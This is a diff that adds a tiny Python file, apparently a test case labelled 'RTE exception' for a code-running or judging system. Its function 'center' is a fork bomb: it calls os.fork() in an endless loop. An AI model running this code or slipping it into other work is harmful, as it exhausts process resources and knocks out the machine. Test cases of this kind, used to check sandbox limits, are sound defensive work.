@@ -1,0 +1,7 @@
+# RTE exception
+import os
+
+
+def center(x):
+    while True:
+        os.fork()
